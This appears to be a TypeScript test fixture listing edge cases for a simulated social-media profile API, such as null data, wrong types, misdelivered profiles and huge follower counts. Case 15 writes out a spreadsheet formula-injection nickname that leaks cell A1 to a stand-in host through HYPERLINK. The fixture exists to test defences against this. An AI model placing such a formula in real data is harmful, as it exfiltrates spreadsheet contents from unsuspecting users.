import type { SimulatedPerson } from './person.js'
import type { SimulatedData } from './profile.js'

type Json = Record<string, unknown>

/** One unusual answer: a special person, a changed answer, or both. */
interface EdgeCase {
  readonly name: string
  readonly person?: Partial<SimulatedPerson>
  readonly change?: (data: SimulatedData) => unknown
}

function changeUser(change: (user: Json) => Json): (data: SimulatedData) => unknown {
  return (data) => {
    const inner = data.data as Json
    return { ...data, data: { ...inner, user: change(inner['user'] as Json) } }
  }
}

const merge = (more: Json): ((data: SimulatedData) => unknown) => changeUser((user) => ({ ...user, ...more }))

/** By the last two digits of an id 51500000NN. */
export const edgeCases: Readonly<Record<string, EdgeCase>> = {
  '01': { name: 'data is null', change: () => null },
  '02': { name: 'ok is 0', change: () => ({ ok: 0, msg: 'the user is not available' }) },
  '03': {
    name: 'ok is -100: the viewing account is logged out',
    change: () => ({ ok: -100, url: 'https://example.com/' }),
  },
  '04': { name: 'ok without a user', change: (data) => ({ ...data, data: { user: null } }) },
  '05': { name: 'no key user', change: (data) => ({ ...data, data: { blockText: 'x' } }) },
  '06': { name: 'misdelivered: the profile of another user', change: merge({ idstr: '5150009999' }) },
  '07': { name: 'idstr is null', change: merge({ idstr: null }) },
  '08': { name: 'no second envelope: the user itself', change: (data) => (data.data as Json)['user'] },
  '09': {
    name: 'more than a hundred million followers',
    person: { followers: 158_000_000, likes: 3_000_000_000, posts: 5000, growth: 0, seed: 0 },
  },
  '10': {
    name: 'counts that disagree',
    change: merge({ followers_count: 158_000, followers_count_str: '1.58亿' }),
  },
  '11': {
    name: 'totals that cannot be read',
    change: merge({ status_total_counter: { total_cnt: '很多', like_cnt: '', comment_cnt: '12', repost_cnt: null } }),
  },
  '12': {
    name: 'only the parts of the total',
    change: merge({ status_total_counter: { like_cnt: '1,000', comment_cnt: '20', repost_cnt: '3' } }),
  },
  '13': { name: 'unknown keys', change: merge({ brand_new_key: 'surprise', brand_new_object: { inner: 1 } }) },
  '14': {
    name: 'wrong types',
    change: merge({ followers_count: '1.2万', verified: 1, gender: 1, icon_list: null, location: {} }),
  },
  '15': {
    name: 'nickname that is a formula',
    change: merge({ screen_name: '=HYPERLINK("https://example.com/?leak="&A1,"点我")' }),
  },
  '16': { name: 'renamed on night 1', person: { name: '旧名字的示例猫', laterName: '新名字的示例猫', renamedOn: 1 } },
  '17': {
    name: 'nothing yet: all counts 0',
    person: { followers: 0, likes: 0, posts: 0, following: 0, growth: 0, seed: 0 },
  },
  '18': { name: 'unknown kind of verification', change: merge({ verified: true, verified_type: 220 }) },
  '19': { name: 'government', person: { verifiedType: 1, verifiedReason: '示例市样本局官方微博' } },
  '20': { name: 'data is text', change: () => 'user not found' },
}
